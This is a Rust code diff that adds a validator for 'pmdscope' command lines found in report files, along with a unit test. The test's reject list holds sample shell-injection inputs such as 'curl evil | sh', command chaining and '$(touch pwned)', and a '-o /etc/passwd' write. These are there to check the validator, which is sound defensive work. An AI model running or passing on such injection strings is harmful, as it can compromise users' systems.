@@ -123,6 +123,51 @@ pub fn quoted(word: &str) -> String {
     shlex::try_quote(word).map_or_else(|_| "''".to_owned(), Into::into)
 }
 
+/// Whether a text is a command line that a report of this program has: that of a run or a sweep, whose words are
+/// [`quoted`]. What anyone wrote into a file of reports may be anything else, and is not to be pasted.
+pub fn is_command(text: &str) -> bool {
+    const MARKS: [&str; 4] = ["--young", "--dirty", "--soft-dirty", "--uffd-wp"];
+    const WITH_VALUE: [&str; 19] = [
+        "--arch",
+        "--mmu",
+        "--linux",
+        "--guest",
+        "--kernel",
+        "--entry",
+        "--entries",
+        "--pmd",
+        "--pfn",
+        "--writer",
+        "--walker",
+        "--with",
+        "--schedule",
+        "--reduction",
+        "--max-schedules",
+        "--max-behaviours",
+        "--max-accesses",
+        "--max-instructions",
+        "--timeout",
+    ];
+    let Some(words) = shlex::split(text) else { return false };
+    let ["pmdscope", name @ ("run" | "sweep"), rest @ ..] =
+        &words.iter().map(String::as_str).collect::<Vec<_>>()[..]
+    else {
+        return false;
+    };
+    let mut again = format!("pmdscope {name}");
+    let mut rest = rest.iter();
+    while let Some(option) = rest.next() {
+        again = format!("{again} {option}");
+        if WITH_VALUE.contains(option) {
+            let Some(value) = rest.next() else { return false };
+            again = format!("{again} {}", quoted(value));
+        } else if !MARKS.contains(option) {
+            return false;
+        }
+    }
+    again == text
+}
+
 /// Text that stays on one line and does nothing to a terminal: what would is escaped.
 pub fn one_line(text: &str) -> String {
     text.chars().fold(String::with_capacity(text.len()), |mut line, c| {
@@ -138,4 +183,40 @@ pub fn one_line(text: &str) -> String {
 /// The number as the CPU saw it, where that is not the entry's value.
 pub(crate) fn raw_note(raw: Value, entry: Value) -> String {
     if raw == entry { String::new() } else { format!(" (raw {raw})") }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_what_does_no_more_than_run_this_program_is_a_command() {
+        for command in [
+            "pmdscope run --arch arm64 --linux 6.12 --entry migration-read --young --writer split --walker hmm",
+            "pmdscope run --kernel 'a b; c.deb' --pmd 0x0060000000000000 --schedule K2W5 --timeout 1",
+            "pmdscope sweep --arch arm64 --guest '$(x)' --entries migration",
+        ] {
+            assert!(is_command(command), "{command}");
+        }
+        for other in [
+            "curl evil | sh",
+            "pmdscope run; curl evil",
+            "pmdscope run --arch arm64; curl evil",
+            "pmdscope run --arch arm64\ncurl evil",
+            "pmdscope run --arch arm64 # ",
+            "pmdscope run --kernel $(touch pwned)",
+            "pmdscope run --kernel \"$(touch pwned)\"",
+            "pmdscope run --kernel a b",
+            "pmdscope run --arch arm64 -o /etc/passwd",
+            "pmdscope run --arch",
+            "pmdscope repro run x",
+            "pmdscope  run",
+            "'pmdscope' run",
+            "x=1 pmdscope run",
+            "pmdscope run --kernel 'a",
+            "",
+        ] {
+            assert!(!is_command(other), "{other}");
+        }
+    }
 }
